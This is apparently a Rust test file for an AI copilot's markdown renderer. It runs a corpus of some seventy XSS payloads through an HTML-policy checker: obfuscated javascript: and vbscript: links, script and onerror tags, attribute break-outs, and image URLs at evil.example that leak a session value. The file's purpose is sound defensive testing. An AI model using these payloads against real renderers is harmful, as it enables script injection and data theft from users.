//! An HTML checker for our own output: every tag is one the renderer may make, with only the
//! attributes it may write; links are safe and open safely; no image loads. The XSS corpus
//! runs through it whole and streamed.

use flowyte_copilot::markdown::{ReplyPolicy, StreamRenderer, render, safe_link};

use crate::chunks;

const TAGS: &[&str] = &[
    "p",
    "a",
    "em",
    "strong",
    "del",
    "code",
    "pre",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "blockquote",
    "hr",
    "br",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "div",
    "button",
    "input",
];

fn allowed_attribute(tag: &str, name: &str) -> bool {
    matches!(
        (tag, name),
        ("a", "href" | "title" | "class" | "rel" | "target")
            | ("code" | "th" | "td" | "div" | "button", "class")
            | ("button", "type")
            | ("input", "disabled" | "type" | "checked")
            | ("ol", "start")
            // Scrollers (code blocks, tables) take keyboard focus.
            | ("pre" | "div", "tabindex")
    )
}

pub fn unescape(value: &str) -> String {
    value
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// Panics with `case` when `html` holds anything the policy forbids.
pub fn check(case: &str, html: &str) {
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let closing = rest.starts_with('/');
        let body = rest.trim_start_matches('/');
        let name: String = body
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        assert!(
            TAGS.contains(&name.as_str()),
            "{case}: tag <{name}> in {html}"
        );
        let end = body
            .find('>')
            .unwrap_or_else(|| panic!("{case}: unclosed tag in {html}"));
        let mut attrs = body[name.len()..end].trim().trim_end_matches('/').trim();
        assert!(
            !closing || attrs.is_empty(),
            "{case}: attributes on a closing tag"
        );
        let mut href = None;
        let mut rel = false;
        let mut target = false;
        while !attrs.is_empty() {
            let name_end = attrs.find(['=', ' ']).unwrap_or(attrs.len());
            let attr = &attrs[..name_end];
            assert!(
                allowed_attribute(&name, attr),
                "{case}: attribute {attr} on <{name}> in {html}"
            );
            attrs = &attrs[name_end..];
            if let Some(value) = attrs.strip_prefix("=\"") {
                let close = value
                    .find('"')
                    .unwrap_or_else(|| panic!("{case}: unterminated value in {html}"));
                let text = unescape(&value[..close]);
                match attr {
                    "href" => href = Some(text),
                    "rel" => rel = text == "noopener noreferrer nofollow",
                    "target" => target = text == "_blank",
                    _ => {}
                }
                attrs = value[close + 1..].trim_start();
            } else {
                assert!(
                    attrs.is_empty() || attrs.starts_with(' '),
                    "{case}: unquoted value in {html}"
                );
                attrs = attrs.trim_start();
            }
        }
        if name == "a" && !closing {
            let href = href.unwrap_or_else(|| panic!("{case}: <a> without href"));
            let lower = href.to_ascii_lowercase();
            assert!(
                safe_link(&href)
                    && ["http:", "https:", "mailto:"]
                        .iter()
                        .any(|s| lower.starts_with(s)),
                "{case}: executable or unexpected href {href:?}"
            );
            assert!(rel && target, "{case}: link without rel/target in {html}");
        }
        rest = &body[end..];
    }
}

/// Renders `md` whole and streamed (3 bytes at a time), checking every HTML the panel would
/// insert on the way.
pub fn check_everywhere(case: &str, md: &str) {
    let policy = ReplyPolicy::default();
    check(case, &render(md, &policy));
    let mut stream = StreamRenderer::new(policy);
    for piece in chunks(md, 3) {
        let update = stream.push(&piece);
        for block in &update.finished {
            check(case, block);
        }
        check(case, &update.tail);
    }
    let (_, last) = stream.finish();
    for block in last {
        check(case, &block);
    }
}

const XSS: &[(&str, &str)] = &[
    ("javascript link", "[x](javascript:alert(1))"),
    ("upper-case scheme", "[x](JAVASCRIPT:alert(1))"),
    ("mixed-case scheme", "[x](JaVaScRiPt:alert(1))"),
    ("hex entity in scheme", "[x](jav&#x61;script:alert(1))"),
    ("decimal entity in scheme", "[x](jav&#97;script:alert(1))"),
    ("named entity colon", "[x](javascript&colon;alert(1))"),
    ("tab entity in scheme", "[x](jav&#x09;ascript:alert(1))"),
    ("newline entity in scheme", "[x](java&#10;script:alert(1))"),
    ("angle-bracket destination", "[x](<javascript:alert(1)>)"),
    (
        "tab inside angle destination",
        "[x](<java\tscript:alert(1)>)",
    ),
    ("percent-encoded scheme", "[x](%6Aavascript:alert(1))"),
    (
        "control char before scheme",
        "[x](\u{1}javascript:alert(1))",
    ),
    ("backslash escape in scheme", "[x](java\\script:alert(1))"),
    ("vbscript", "[x](vbscript:msgbox(1))"),
    (
        "data html",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    ),
    ("file", "[x](file:///etc/passwd)"),
    ("autolink javascript", "<javascript:alert(1)>"),
    ("autolink mixed case", "<JaVaScRiPt:alert(document.cookie)>"),
    (
        "autolink with quotes",
        "<http://ok.example/\"onmouseover=\"alert(1)>",
    ),
    ("reference link", "[a][ref]\n\n[ref]: javascript:alert(1)"),
    (
        "shortcut reference",
        "[ref]\n\n[ref]: jav&#x09;ascript:alert(1)",
    ),
    (
        "reference with title",
        "[a][r]\n\n[r]: <javascript:alert(1)> \"t\"",
    ),
    ("reference defined first", "[r]: vbscript:x\n\nSee [it][r]."),
    ("script block", "<script>alert(1)</script>"),
    ("img onerror block", "<img src=x onerror=alert(1)>"),
    (
        "inline span handler",
        "text <span onmouseover=\"alert(1)\">hover</span>",
    ),
    ("iframe", "<iframe src=\"https://evil.example\"></iframe>"),
    ("raw anchor", "<a href=\"javascript:alert(1)\">x</a>"),
    ("style block", "<style>body{display:none}</style>"),
    ("comment then script", "<!-- c --><script>alert(1)</script>"),
    ("svg onload", "<svg onload=alert(1)>"),
    ("details ontoggle", "<details open ontoggle=alert(1)>"),
    ("multi-line block", "<div\nonclick=alert(1)>x</div>"),
    (
        "image exfiltration",
        "![x](https://evil.example/track.png?session=abc)",
    ),
    ("image javascript", "![x](javascript:alert(1))"),
    (
        "reference image",
        "![x][img]\n\n[img]: https://evil.example/p.gif",
    ),
    ("data image", "![](data:image/svg+xml;base64,PHN2Zz4=)"),
    ("html in alt", "![<script>](https://evil.example/a.png)"),
    (
        "title break-out",
        "[x](https://ok.example \"a\\\" onmouseover=\\\"alert(1)\")",
    ),
    (
        "quote in url",
        "[x](https://ok.example/\"onmouseover=\"alert(1))",
    ),
    (
        "tag in url",
        "[x](https://ok.example/'><script>alert(1)</script>)",
    ),
    ("code span", "`<script>alert(1)</script>`"),
    ("fenced html", "```html\n<script>alert(1)</script>\n```"),
    (
        "info string break-out",
        "```\" onmouseover=\"alert(1)\ncode\n```",
    ),
    (
        "table with html",
        "| <b>a</b> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |",
    ),
    (
        "task list with html",
        "- [ ] <script>task</script>\n- [x] done",
    ),
    ("block quote html", "> <script>alert(1)</script>"),
    ("emphasis around html", "**<script>**alert(1)**</script>**"),
    (
        "html in link text",
        "[<img src=x onerror=alert(1)>](https://ok.example)",
    ),
    (
        "entities stay text",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ),
    (
        "mailto with junk",
        "[mail](mailto:a@b.example?subject=<script>)",
    ),
    ("nul in text", "[x](https://ok.example)\u{0}<script>"),
    ("setext heading with html", "Title <script>\n==="),
    (
        "open link while streaming",
        "see [docs](javascript:alert(1)",
    ),
    // GFM's bare links (extended autolinks).
    ("bare javascript-looking URL", "javascript://%0Aalert(1)"),
    (
        "bare javascript URL behind an entity",
        "jav&#x61;script://x.example/%0aalert(1)",
    ),
    (
        "bare URL with a javascript path",
        "https://ok.example/javascript:alert(1)",
    ),
    ("www with a javascript port", "www.javascript:alert(1)"),
    (
        "autolink inside a link label",
        "[https://ok.example](javascript:alert(1))",
    ),
    (
        "www inside a link label",
        "[see www.ok.example](vbscript:msgbox(1))",
    ),
    (
        "address inside a link label",
        "[a@ok.example](data:text/html,x)",
    ),
    (
        "autolink inside an image's alt",
        "![https://ok.example](javascript:alert(1))",
    ),
    (
        "autolink ending in an entity",
        "https://ok.example/&quot;onmouseover=&quot;alert(1)",
    ),
    (
        "www ending in entities",
        "www.ok.example/&lt;script&gt;alert(1)&lt;/script&gt;",
    ),
    (
        "autolink ending in an entity-like tail",
        "https://ok.example/?a=1&lt;",
    ),
    (
        "autolink with a quote",
        "https://ok.example/'onmouseover='alert(1)'",
    ),
    (
        "autolink in a table cell with html",
        "| https://ok.example/<script>alert(1)</script> | b |\n|---|---|",
    ),
    (
        "address followed by html",
        "a@ok.example<img src=x onerror=alert(1)>",
    ),
];

#[test]
fn the_xss_corpus_renders_nothing_executable() {
    assert!(XSS.len() >= 40, "{} cases", XSS.len());
    for (case, md) in XSS {
        check_everywhere(case, md);
    }
    // And the checker itself catches what it must.
    for bad in [
        "<p><script>x</script></p>",
        "<a href=\"javascript:x\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">",
        "<p style=\"color:red\">",
        "<a href=\"https://x\">x</a>",
        "<img src=\"https://evil.example/a.png\">",
        "<p onclick=\"x\">",
    ] {
        assert!(
            std::panic::catch_unwind(|| check("self-test", bad)).is_err(),
            "the checker let {bad} through"
        );
    }
}

#[test]
fn a_bare_link_inside_a_link_the_policy_refuses_stays_text() {
    let policy = ReplyPolicy::default();
    assert_eq!(
        render("[https://ok.example](javascript:alert(1))", &policy),
        "<p>https://ok.example</p>\n"
    );
    assert_eq!(
        render("[see www.ok.example](vbscript:msgbox(1))", &policy),
        "<p>see www.ok.example</p>\n"
    );
    assert_eq!(
        render("javascript://%0Aalert(1)", &policy),
        "<p>javascript://%0Aalert(1)</p>\n"
    );
}

#[test]
fn safe_links_stay_links() {
    let html = render(
        "[a](https://ok.example) <https://auto.example> [m](MAILTO:x@y.example) [h](HTTP://x.example)",
        &ReplyPolicy::default(),
    );
    assert_eq!(html.matches("<a href=").count(), 4, "{html}");
}
